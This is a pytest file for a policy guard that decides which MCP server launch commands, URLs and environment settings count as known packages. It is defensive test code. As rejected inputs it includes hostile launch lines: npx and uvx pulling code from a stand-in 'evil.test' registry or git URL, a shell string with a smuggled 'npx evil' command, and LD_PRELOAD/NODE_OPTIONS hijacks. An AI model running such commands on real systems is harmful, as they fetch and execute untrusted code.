"""Known servers: what their user starts decides, and a server's own words only take away."""

from dataclasses import replace

import pytest

from guard.core.model import Role
from guard.policy.client_config import ConfiguredServer
from guard.policy.proposal import ListedTool, policy_text
from guard.policy.recognition import (
    Launch,
    launched,
    named,
    profiles_of,
    proposed,
    qualifies,
    shipped_profiles,
)

TEXT = {"type": "string"}
FILES = ("npx", "-y", "@modelcontextprotocol/server-filesystem", "/srv")
FILESYSTEM = Launch("npm", "@modelcontextprotocol/server-filesystem")
READ = ListedTool("read_file", {"path": TEXT}, {"readOnlyHint": True}, "0" * 32)


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        (FILES, FILESYSTEM),
        (("npx", "@modelcontextprotocol/server-filesystem@2026.8.31", "/srv"), FILESYSTEM),
        (("cmd", "/c", *FILES), FILESYSTEM),
        (("sh", "-c", " ".join(FILES)), FILESYSTEM),
        (("npx.cmd", *FILES[1:]), FILESYSTEM),
        (("pnpm", "dlx", FILES[2]), FILESYSTEM),
        (("uvx", "mcp-server-fetch"), Launch("pypi", "mcp-server-fetch")),
        (("uvx", "mcp_server_fetch==2026.1.1"), Launch("pypi", "mcp-server-fetch")),
        (("uvx", "--from", "mcp-server-fetch[x]", "serve"), Launch("pypi", "mcp-server-fetch")),
        (("uv", "tool", "run", "chroma-mcp"), Launch("pypi", "chroma-mcp")),
        (("docker", "run", "-i", "--rm", "-e", "K", "mcp/fetch:1"), Launch("images", "mcp/fetch")),
        (
            ("npx", "-y", "mcp-remote@1", "https://a.test/mcp", "--x"),
            Launch("urls", "https://a.test/mcp"),
        ),
        # What could be another program than it seems to be.
        (("npx", "--registry=http://evil.test", FILES[2]), None),
        (("npx", "-p", "evil", "server-filesystem"), None),
        (("npx", "github:evil/server-filesystem"), None),
        (("npx", "./node_modules/x"), None),
        (("npx", "mcp-remote"), None),
        (("npx", "mcp-remote", "--header", "https://a.test/mcp"), None),
        (("uvx", "--index-url", "http://evil.test", "mcp-server-fetch"), None),
        (("uvx", "--from", "git+https://evil.test/x", "mcp-server-fetch"), None),
        (("docker", "run", "--entrypoint", "sh", "mcp/fetch"), None),
        (("sh", "-c", "npx evil; npx -y @modelcontextprotocol/server-filesystem"), None),
        (("bash", "-lc", "x"), None),
        (("node", "-e", "evil()"), None),
        # A file in a folder that anybody may write, and a program of a package's name.
        (("/tmp/x/npx", *FILES[1:]), None),
        (("C:\\temp\\npx.cmd", *FILES[1:]), None),
        (("/tmp/x/sh", "-c", " ".join(FILES)), None),
        (("./uvx", "mcp-server-fetch"), None),
        (("/usr/bin/mcp-server-fetch",), None),
        (("mcp-server-fetch",), None),
        (("/tmp/x/server-filesystem",), None),
        (("node", "/tmp/node_modules/@modelcontextprotocol/server-filesystem/d/i.js"), None),
        (("python3", "-m", "mcp_server_fetch"), None),
        (("uv", "run", "--directory", "/tmp/graphiti/mcp_server", "main.py"), None),
        ((), None),
    ],
)
def test_a_command_line_says_which_package_it_starts(command, expected):
    """Launchers and their plain options; anything else is not recognised."""
    assert launched(command, {}) == expected


@pytest.mark.parametrize(
    "name",
    [
        "npm_config_registry",
        "UV_INDEX_URL",
        "PIP_INDEX_URL",
        "NODE_OPTIONS",
        "PATH",
        "PYTHONPATH",
        "LD_PRELOAD",
        "DOCKER_HOST",
        "BASH_ENV",
    ],
)
def test_a_variable_that_changes_what_is_started_is_no_recognition(name):
    """Those that do not are."""
    assert launched(FILES, {name: "x"}) is None
    assert launched(FILES, {"GITHUB_TOKEN": "x", "PYTHONUNBUFFERED": "1"}) == FILESYSTEM


@pytest.mark.parametrize(
    ("url", "expected"),
    [
        ("https://api.githubcopilot.com/mcp/", True),
        ("https://api.githubcopilot.com/mcp/x/issues", True),
        ("https://api.githubcopilot.com/mcpevil", False),
        ("http://api.githubcopilot.com/mcp/", False),
        ("https://api.githubcopilot.com.evil.test/mcp/", False),
        ("https://u@api.githubcopilot.com/mcp/", False),
        ("https://api.githubcopilot.com:444/mcp/", False),
    ],
)
def test_a_url_is_known_by_scheme_host_and_path(url, expected):
    """A neighbour of the name is not the name."""
    found = profiles_of(ConfiguredServer("gh", url))

    assert ("builtin:github@1" in found) is expected


def test_a_runner_is_known_by_its_path_where_commands_are_looked_up_there(tmp_path, monkeypatch):
    """Clients without a shell's path name the whole one; a file of that name elsewhere is none."""
    programs = [tmp_path / folder / "npx" for folder in ("bin", "elsewhere")]
    for program in programs:
        program.parent.mkdir()
        program.touch(0o755)
    monkeypatch.setenv("PATH", str(tmp_path / "bin"))

    found = [launched((str(program), *FILES[1:]), {}) for program in programs]
    assert found == [FILESYSTEM, None]


@pytest.mark.parametrize("profile", sorted(shipped_profiles()))
@pytest.mark.parametrize("path", ["/tmp/x/{}", "./{}", "{}", "/usr/local/bin/{}", "C:\\x\\{}"])
def test_a_program_of_a_known_package_s_name_has_no_profile(profile, path):
    """Whatever folder it lies in, and whatever starts it."""
    known = shipped_profiles()[profile].recognised_by
    names = () if known is None else (*known.npm, *known.pypi, *known.images)
    for name in (*names, *(one.rpartition("/")[2] for one in names)):
        for runner in ((), ("node",), ("sh",)):
            command = *runner, path.format(name)
            assert profiles_of(ConfiguredServer("x", command=command)) == ()


def test_a_bridge_is_known_by_the_url_that_it_leads_to():
    """Clients without HTTP start one; its arguments may be secrets, and are not told."""
    command = ("npx", "-y", "mcp-remote", "https://mcp.stripe.com/?key=rk_1", "--header", "k:rk_2")
    server = ConfiguredServer("pay", command=command)

    assert profiles_of(server) == profiles_of(ConfiguredServer("pay", "https://mcp.stripe.com/"))
    assert profiles_of(server)
    assert named(server) == "https://mcp.stripe.com/"
    assert named(replace(server, command=("npx", "-y", "pg", "postgresql://me:k@h/db"))) == "npx pg"
    assert named(ConfiguredServer("w", "https://me:k@h.test:9/x?key=k")) == "https://h.test:9/x"
    assert (
        profiles_of(replace(server, command=("npx", "mcp-remote", "http://mcp.stripe.com/"))) == ()
    )


@pytest.mark.parametrize(
    "package",
    [
        "@modelcontextprotocol/server-filesytem",
        "@evil/server-filesystem",
        "server-filesystem",
        "mcp-server-fetch-2",
    ],
)
def test_a_package_of_another_name_is_another_package(package):
    """However near."""
    assert profiles_of(ConfiguredServer("x", command=("npx", package))) == ()
    assert profiles_of(ConfiguredServer("x", command=("uvx", package))) == ()


@pytest.mark.parametrize(
    "tool",
    [
        replace(READ, annotations={"readOnlyHint": False}),
        replace(READ, properties={"path": TEXT, "url": TEXT}),
        replace(READ, properties={"path": TEXT, "to": TEXT}),
        replace(READ, properties={"path": TEXT, "w": {"type": "string", "format": "email"}}),
    ],
)
def test_a_tool_that_is_not_as_its_profile_knows_it_is_left_open(load, tool):
    """What a server says of itself takes a tool out of the profile, and never puts one in."""
    server = ConfiguredServer("files", command=FILES)
    fits = proposed(server, "stdio:files", [READ])
    odd = proposed(server, "stdio:files", [tool])

    assert (odd.pinned, [one.tool for one in odd.guesses]) == ((), ["read_file"])
    for one, role in ((fits, Role.RETRIEVE), (odd, None)):
        policy = load(policy_text("p", "corp.example", [one]))
        mapping = policy.mapping("read_file", upstream="stdio:files")
        assert (mapping and mapping.role) == role


READS = {"readOnlyHint": True}
ACCOUNT = {"USER_GOOGLE_EMAIL": "nora@corp.example"}
SEARCH = ListedTool(
    "search_gmail_messages", {"query": TEXT, "user_google_email": TEXT}, READS, "0" * 32
)


def workspace(tool, environment, package):
    """Return the proposal for a server that its user starts."""
    server = ConfiguredServer(
        "google", command=("uvx", package), environment=environment, transport="stdio"
    )
    return proposed(server, "stdio:google", [tool])


def test_an_account_must_be_the_configured_one(load):
    """The tool is mapped, and another account is asked about by a rule."""
    one = workspace(SEARCH, ACCOUNT, "workspace-mcp")
    assert (one.mapped, one.dropped) == (1, {})
    policy = load(policy_text("p", "corp.example", [one]))
    [rule] = [rule for rule in policy.rules if rule.id == "account-google"]
    assert (rule.equals, rule.negate) == ("nora@corp.example", True)


def page(name="get_page", properties=None, annotations=READS):
    """Return a tool of a server that is known by its annotations."""
    return ListedTool(name, properties or {}, annotations, "0" * 32)


@pytest.mark.parametrize(
    ("package", "environment", "tool", "mapped"),
    [
        # Without a configured account.
        ("workspace-mcp", {}, SEARCH, False),
        ("workspace-mcp", {"USER_GOOGLE_EMAIL": " "}, SEARCH, False),
        # An annotation alone maps no tool that something else contradicts.
        ("mcp-server-git", {}, page(), True),
        ("mcp-server-git", {}, page(properties={"webhook_url": TEXT}), False),
        ("mcp-server-git", {}, page(properties={"notify_email": TEXT}), False),
        ("mcp-server-git", {}, page("delete_page"), False),
        ("mcp-server-git", {}, page("update_page"), False),
        ("mcp-server-git", {}, page("list_and_send", annotations={}), False),
        ("mcp-server-git", {}, page(annotations={**READS, "destructiveHint": True}), False),
        ("mcp-server-git", {}, page(annotations={"readOnlyHint": "true"}), False),
        ("mcp-server-git", {}, page(annotations={"readOnlyHint": False}), False),
    ],
)
def test_a_tool_that_is_not_mapped_has_a_reason(package, environment, tool, mapped):
    """It is asked about."""
    one = workspace(tool, environment, package)
    assert one.mapped == mapped
    assert bool(one.dropped.get(tool.name)) is not mapped


def test_a_users_word_counts_and_a_servers_words_do_not():
    """What `--known` says is what he starts; nobody reviewed the other server."""
    server = ConfiguredServer("pay", command=("./pay",))
    tool = ListedTool("list_payees", {}, {}, "0" * 32)

    assert proposed(server, "stdio:pay", [tool]).profiles == ()
    assert proposed(server, "stdio:pay", [tool], ["builtin:bank"]).profiles == ("builtin:bank",)
    assert workspace(page(), {}, "mcp-server-nobody").mapped == 0


def test_no_shipped_profile_accepts_a_switch_or_an_id():
    """Neither qualifies, whatever a profile says."""
    for name, content in shipped_profiles().items():
        for argument in content.recognised_by.accepts if content.recognised_by else ():
            assert qualifies(argument), (name, argument)
    names = "share publish notify send_updates page_id channelId ids callback"
    assert not any(map(qualifies, names.split()))
    assert not qualifies("fast", {"type": "boolean"})
